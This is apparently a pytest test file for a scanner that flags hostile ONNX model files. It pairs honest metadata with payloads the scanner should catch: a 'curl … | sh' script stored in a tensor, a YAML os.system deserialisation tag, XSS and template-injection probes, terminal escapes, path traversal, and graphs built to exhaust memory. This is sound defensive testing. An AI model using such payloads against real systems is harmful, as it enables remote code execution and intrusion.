"""Rules about what stands in an ONNX file: the hostile ones are found, quickly; what honest exporters write is not."""

import base64
import random
import struct
from itertools import pairwise

import pytest

from fixtures.make.onnx import linear, regression_tree
from fixtures.make.onnx_writer import (
    INT64,
    STRING,
    UINT8,
    attribute,
    entry,
    external,
    floats,
    function,
    graph,
    ints,
    message,
    model,
    node,
    number,
    tensor,
    text,
    value,
)
from modelscan_plus.core.finding import Severity
from tests.samples import inspect, inspect_tree
from tools.graphs.hostile_files import FILES

LINKED = ("external/symlink", "external/symlink-folder", "external/hardlink")
"""Made on a disk: tests/rules/test_graph_external.py."""
NOISE = random.Random(0).randbytes(512)


def found(data: bytes) -> dict[str, Severity]:
    """The worst severity of each rule."""
    worst: dict[str, Severity] = {}
    for finding in inspect(data, "m.onnx").findings:
        known = worst.get(finding.rule, Severity.INFO)
        worst[finding.rule] = finding.severity if finding.severity.rank >= known.rank else known
    return worst


@pytest.mark.parametrize("name", [name for name in FILES if name not in LINKED])
@pytest.mark.timeout(60)
def test_a_hostile_file_is_found_in_time(name: str) -> None:
    files = FILES[name]()
    findings = inspect_tree(files)
    assert max(finding.severity.rank for finding in findings) >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "value_",
    [
        b"{'0': 'person', 1: 'import', 2: 'exec (unit)'}",
        b"Run model.eval() first; torch.compile(model) is fine. Shell scripts: see README. cmd / option + r",
        b'File "/a/b.py", line 3, in forward\n  return self.eval(x) + exec(y)',
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + NOISE),
        b"sha256:" + b"9f86d081884c7d65" * 4,
        b'{"precompiled_charsmap": "' + base64.b64encode(NOISE) + b'"}',
        b"https://example.org/?q=<2&r>1 | head",
        b"names: !!set {person, car}\nsource: https://example.org/python/object-detection",
        "Größe, 模型, ∑ → ok\nsecond line\tand a tab".encode(),
        b"-5.0",
        b"=1",
    ],
)
def test_honest_metadata_is_quiet(value_: bytes) -> None:
    worst = max((severity.rank for severity in found(linear(entry(14, "note", value_))).values()), default=0)
    assert worst <= Severity.LOW.rank


@pytest.mark.parametrize(
    ("value_", "rule", "severity"),
    [
        (b"#!/bin/sh\nid\n", "MSP4030", Severity.HIGH),
        (b"import os\nprint(os.environ)", "MSP4030", Severity.MEDIUM),
        (b"<script>alert(1)</script>", "MSP4030", Severity.HIGH),
        (b"!!python/object/apply:os.system ['id']", "MSP4030", Severity.HIGH),
        (b"post: !<tag:yaml.org,2002:python/name:os.system>", "MSP4030", Severity.HIGH),
        (b"{{ ''.__class__.__mro__ }}", "MSP4030", Severity.HIGH),
        (base64.b64encode(NOISE * 2), "MSP4031", Severity.MEDIUM),
        (b"7f454c46020101000000000000000000" + b"03003e00" + b"00" * 200, "MSP4031", None),
        (b"\x1b]0;title\x07", "MSP4032", Severity.MEDIUM),
    ],
)
def test_metadata_for_an_interpreter(value_: bytes, rule: str, severity: Severity | None) -> None:
    said = found(linear(entry(14, "note", value_)))
    if severity is not None:
        assert said[rule] is severity


def test_a_node_name_is_shown_escaped() -> None:
    result = inspect(linear(nodes=[node("Neg", ["y"], ["z"], name="\x1b[31mred")]), "m.onnx")
    (finding,) = (f for f in result.findings if f.rule == "MSP4032")
    assert "\x1b" not in finding.message
    assert "\x1b" not in str(finding.evidence)


def test_lines_in_the_version_of_the_producer_are_let_pass_and_escapes_are_not() -> None:
    assert "MSP4032" not in found(linear(message(3, b"1.2\n    Commit: abc\n\tBranch: main")))
    assert "MSP4032" in found(linear(message(3, b"1.2\x1b[2J")))


def test_forgotten_weights_are_low_and_forgotten_bytes_medium() -> None:
    weights = floats("v", [8, 8], [0.01 * (index % 13) for index in range(64)])
    assert found(linear(tensors=[weights]))["MSP4024"] is Severity.LOW
    assert found(linear(tensors=[tensor("v", [512], NOISE, UINT8)]))["MSP4024"] is Severity.MEDIUM
    assert "MSP4024" not in found(linear(tensors=[ints("v", [1], [7])]))


def test_an_initializer_used_only_in_a_branch_is_used() -> None:
    then = graph([node("Add", ["x", "v"], ["y"])], [], [], [value("y")])
    choice = node(
        "If", ["c"], ["y"], attribute("then_branch", 5, message(6, then)), attribute("else_branch", 5, message(6, then))
    )
    weights = floats("v", [8, 8], [0.5] * 64)
    assert found(model(graph([choice], [weights], [value("x"), value("c", [], 9)], [value("y")]))) == {}


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        (tensor("w", [2, 2], b""), Severity.LOW),
        (tensor("w", [2, 2], bytes(20)), Severity.MEDIUM),
        (tensor("w", [2, 2], bytes(12)), Severity.HIGH),
        (tensor("w", [-2, 2], bytes(16)), Severity.HIGH),
        (tensor("w", [2, 2]) + message(4, bytes(12)), Severity.HIGH),
        (tensor("w", [2, 2], kind=INT64) + message(7, b"\x01\x02\x03"), Severity.HIGH),
    ],
)
def test_sizes_that_do_not_fit(data: bytes, severity: Severity) -> None:
    assert found(linear(weight=data))["MSP4022"] is severity


@pytest.mark.parametrize(
    "data",
    [
        tensor("w", [2, 2]) + message(4, bytes(16)),
        tensor("w", [2, 2]) + (b"\x25" + bytes(4)) * 4,
        tensor("w", [4], kind=INT64) + message(7, b"\x01\x02\x03\x80\x01"),
        tensor("w", [], kind=INT64) + message(7, b"\x05"),
        tensor("w", [0, 4], b""),
        tensor("w", [2], kind=STRING) + text(6, "a") + text(6, "b"),
        tensor("w", [3], b"\x21\x03", 22),
    ],
)
def test_sizes_that_fit(data: bytes) -> None:
    assert "MSP4022" not in found(linear(weight=data))


@pytest.mark.parametrize(
    "attributes",
    [
        (attribute("axis", 2, number(3, 1), text(4, "x")),),
        (attribute("axis", 2, number(3, 1)), attribute("axis", 2, number(3, 2))),
        (attribute("v", 4, message(5, floats("", [1], [1.0])), b"\x3d" + bytes(4)),),
    ],
)
def test_attributes_with_two_values(attributes: tuple[bytes, ...]) -> None:
    data = linear(nodes=[node("Softmax", ["y"], ["z"], *attributes)])
    assert found(data)["MSP4021"] is Severity.HIGH
    assert "MSP4021" not in found(linear(nodes=[node("Softmax", ["y"], ["z"], attribute("axis", 2, number(3, 1)))]))


@pytest.mark.parametrize("arranged", [True, False])
def test_a_small_vector_across_itself_is_large_and_along_itself_it_is_not(*, arranged: bool) -> None:
    """A row and a column of a million numbers give a million times a million; two rows give a row."""

    def product(shape: list[int]) -> bytes:
        tensors = [ints("a", [], [0]), ints("n", [], [1_000_000]), ints("one", [], [1]), ints("axis", [1], [shape[0]])]
        tensors += [ints("shape", [2], shape[1:])]
        nodes = [
            node("Range", ["a", "n", "one"], ["row"]),
            node("Reshape", ["row", "shape"], ["left"]) if arranged else node("Unsqueeze", ["row", "axis"], ["left"]),
            node("Mul", ["left", "row"], ["all"]),
            node("Add", ["x", "all"], ["y"]),
        ]
        return model(graph(nodes, tensors, [value("x")], [value("y")]))

    assert found(product([1, -1, 1]))["MSP4045"] is Severity.HIGH
    assert "MSP4045" not in found(product([0, 1, -1]))


@pytest.mark.parametrize(("rounds", "hostile"), [(60, True), (6, False)])
def test_a_value_put_beside_itself_doubles(rounds: int, *, hostile: bool) -> None:
    names = ["x", *(f"v{place}" for place in range(rounds))]
    nodes = [node("Concat", [a, a], [b], attribute("axis", 2, number(3, 1))) for a, b in pairwise(names)]
    data = model(graph(nodes, [], [value("x")], [value(names[-1])]))
    assert ("MSP4045" in found(data)) is hostile


@pytest.mark.parametrize(
    ("inside", "rounds", "hostile"),
    [("v v", 60, True), ("v v", 6, False), ("v w", 60, False)],
)
def test_a_loop_that_doubles_what_it_carries(inside: str, rounds: int, *, hostile: bool) -> None:
    joined = node("Concat", inside.split(), ["v2"], attribute("axis", 2, number(3, 0)))
    body = graph(
        [joined, node("Identity", ["c"], ["go"])],
        [tensor("w", [1], bytes(4))],
        [value("i", [], INT64), value("c", [], 9), value("v", [1])],
        [value("go", [], 9), value("v2", [1])],
    )
    tensors = [ints("t", [], [rounds]), tensor("c", [], b"\1", 9)]
    loop = node("Loop", ["t", "c", "x"], ["y"], attribute("body", 5, message(6, body)))
    assert ("MSP4045" in found(model(graph([loop], tensors, [value("x", [1])], [value("y", [1])])))) is hostile


@pytest.mark.parametrize(("kind", "content"), [(1, 0), (2, 0), (1, 1)])
def test_a_script_is_a_script_in_whatever_type_of_tensor(kind: int, content: int) -> None:
    script = (b"#!/bin/sh\ncurl example.org | sh\n\n", b"the quick brown fox is no script")[content]
    size = [len(script) // 4] if kind == 1 else [len(script)]
    said = found(linear(tensors=[tensor("aux", size, script, kind)]))
    assert ("MSP4030" in said) is (content == 0)


def test_dimensions_that_are_not_known_are_not_multiplied() -> None:
    """Of a flattened weight only the number of elements is known: taken for a row it would give a square."""
    nodes = [
        node("Squeeze", ["w"], ["flat"]),
        node("Unsqueeze", ["flat", "axis"], ["left"]),
        node("Mul", ["left", "flat"], ["all"]),
        node("Add", ["x", "all"], ["y"]),
    ]
    tensors = [tensor("w", [1, 1 << 19], bytes(1 << 21)), ints("axis", [1], [1])]
    assert "MSP4045" not in found(model(graph(nodes, tensors, [value("x")], [value("y")])))


@pytest.mark.parametrize(("column", "child"), [(1 << 40, 1), (0, 0)])
def test_a_tree_of_a_column_no_table_has_or_that_leads_in_a_circle(column: int, child: int) -> None:
    assert found(regression_tree(3, column, child))["MSP4053"] is Severity.HIGH
    assert "MSP4053" not in found(regression_tree(3, 1 << 20, 1))


def test_loops_in_loops_are_multiplied() -> None:
    def loop(body_nodes: list[bytes], trips: int) -> bytes:
        body = graph(
            [*body_nodes, node("Identity", ["c"], ["go"])],
            [ints("t", [], [trips])],
            [value("i", [], INT64), value("c", [], 9), value("v", [1])],
            [value("go", [], 9), value("v2", [1])],
        )
        return node("Loop", ["t", "c", "v"], ["v2"], attribute("body", 5, message(6, body)))

    def whole(trips: int) -> bytes:
        inner = loop([node("Sin", ["v"], ["v2"])], trips)
        body = loop([loop([inner], trips)], trips)
        tensors = [ints("t", [], [trips]), tensor("c", [], b"\1", 9)]
        return model(graph([body], tensors, [value("v", [1])], [value("v2", [1])]))

    assert "MSP4046" in found(whole(1_000_000))
    assert "MSP4046" not in found(whole(20))


def test_tied_external_weights_do_not_overlap() -> None:
    one, two = external("w", "w.bin"), external("v", "w.bin")
    assert "MSP4016" not in found(linear(weight=one, tensors=[two]))
    assert "MSP4016" in found(linear(weight=one, tensors=[external("v", "w.bin", offset="12")]))


def test_functions_are_no_unknown_operators() -> None:
    call = node("Gate", ["x"], ["y"], domain="my.ops")
    body = graph([call], [], [value("x")], [value("y")])
    assert found(model(body, function("Gate", [node("Relu", ["x"], ["y"])], "my.ops"), domains=["my.ops"])) == {}
    assert found(model(body, domains=["my.ops"])).keys() == {"MSP4036"}


@pytest.mark.timeout(60)
def test_a_chain_of_functions_is_measured_and_not_followed_for_ever() -> None:
    chain = b"".join(
        function(f"f{index}", [node(f"f{index + 1}", ["x"], ["y"], domain="d")] * 1, "d") for index in range(3000)
    )
    chain += function("f3000", [node("Relu", ["x"], ["y"])], "d")
    data = model(graph([node("f0", ["x"], ["y"], domain="d")], [], [value("x")], [value("y")]), chain, domains=["d"])
    assert not {"MSP4041", "MSP4042"} & found(data).keys()


@pytest.mark.parametrize(("version", "severity"), [(29, Severity.LOW), (31, Severity.LOW), (200, Severity.MEDIUM)])
def test_the_next_opsets_are_merely_new(version: int, severity: Severity) -> None:
    assert found(linear(opset=version))["MSP4050"] is severity


def test_an_engine_inside_is_opaque_and_a_path_out_is_critical() -> None:
    def engine(mode: int, content: str) -> bytes:
        fields = (attribute("embed_mode", 2, number(3, mode)), attribute("ep_cache_context", 3, text(4, content)))
        body = graph([node("EPContext", ["x"], ["y"], *fields, domain="com.microsoft")], [], [value("x")], [value("y")])
        return model(body, domains=["com.microsoft"])

    assert found(engine(1, "../../x"))["MSP4037"] is Severity.MEDIUM
    assert found(engine(0, "model_ctx.bin"))["MSP4037"] is Severity.MEDIUM
    assert found(engine(0, "../../x"))["MSP4037"] is Severity.CRITICAL


def test_random_bytes_as_floats_are_no_weights_and_small_weights_are() -> None:
    assert found(linear(weight=tensor("w", [2, 64], NOISE)))["MSP4026"] is Severity.MEDIUM
    small = struct.pack("<128f", *(((index * 37) % 101 - 50) * 1e-4 for index in range(128)))
    assert "MSP4026" not in found(linear(weight=tensor("w", [2, 64], small)))
    masked = struct.pack("<128f", *(float("-inf") if index % 3 else 0.0 for index in range(128)))
    assert "MSP4026" not in found(linear(weight=tensor("w", [2, 64], masked)))
    lowest = struct.pack("<128f", *(-3.4e38 if index % 3 else 0.0 for index in range(128)))
    assert "MSP4026" not in found(linear(weight=tensor("w", [2, 64], lowest)))
